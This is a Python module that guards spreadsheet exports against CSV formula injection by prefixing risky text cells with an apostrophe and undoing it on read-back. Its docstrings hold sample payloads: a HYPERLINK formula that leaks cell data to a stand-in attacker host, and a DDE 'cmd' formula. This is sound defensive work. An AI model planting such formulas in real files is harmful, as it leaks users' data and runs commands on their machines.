"""Cells safe to open in a spreadsheet (CSV formula injection), and read back as they were.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is taken by Excel, LibreOffice and Google Sheets as a formula
(``=HYPERLINK("https://attacker.invalid/?leak="&A1)``); names and companies
in LinkedIn's files are written by the connections themselves, so other
people control them.  Following OWASP's guidance on CSV injection, such a
text cell is written with a leading ``'``, which spreadsheets show as text
and do not display.  To read such a file back unchanged, a cell that starts
with one or more ``'`` followed by one of those characters loses its first
``'`` (so a cell that really began with ``'=`` is written ``''=`` and comes
back as ``'=``).

Numbers are left as they are: a cell that is wholly a number (``-3``,
``-0.25``) is a number to every spreadsheet, never a formula, and a numeric
column must stay one to sort and sum.  A *text* cell that looks like a
number (a company called ``-3``) is prefixed like any other text.

>>> escape_cell("=1+2"), escape_cell("'=x"), escape_cell("Ann"), escape_cell("-3")
("'=1+2", "''=x", 'Ann', "'-3")
>>> [unescape_cell(escape_cell(v)) for v in ("=1+2", "'=x", "Ann", "'hi")]
['=1+2', "'=x", 'Ann', "'hi"]
"""
from __future__ import annotations

import re

import pandas as pd

__all__ = ["escape_cell", "unescape_cell", "spreadsheet_safe", "may_hold_escapes", "FORMULA_STARTS"]

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_DANGER = re.compile(r"'*[=+\-@\t\r]")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")
_ESCAPED_BYTES = re.compile(rb"'+[=+\-@\t\r]")


def escape_cell(value: str) -> str:
    """The text cell as it is safe to write: ``'`` in front if a spreadsheet would take it for a formula."""
    return "'" + value if _DANGER.match(value) else value


def unescape_cell(value: str) -> str:
    """The cell as it was before :func:`escape_cell`."""
    return value[1:] if _ESCAPED.match(value) else value


def may_hold_escapes(data: bytes) -> bool:
    """False when no cell of ``data`` can be an escaped one (then reading need not look at every cell).

    >>> may_hold_escapes(b"a,b\\nAnn's,x"), may_hold_escapes(b"a\\n'=x")
    (False, True)
    """
    return b"'" in data and _ESCAPED_BYTES.search(data) is not None


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are escaped (:func:`escape_cell`); numbers, dates and flags kept.

    >>> safe = spreadsheet_safe(pd.DataFrame({"contact": ["=cmd|' /C calc'!A0", "Ann"], "balance": [-3, 2]}))
    >>> safe["contact"].tolist(), safe["balance"].tolist()
    (["'=cmd|' /C calc'!A0", 'Ann'], [-3, 2])
    """
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype):
            out[column] = series.map(lambda v: escape_cell(v) if isinstance(v, str) else v)
    return out
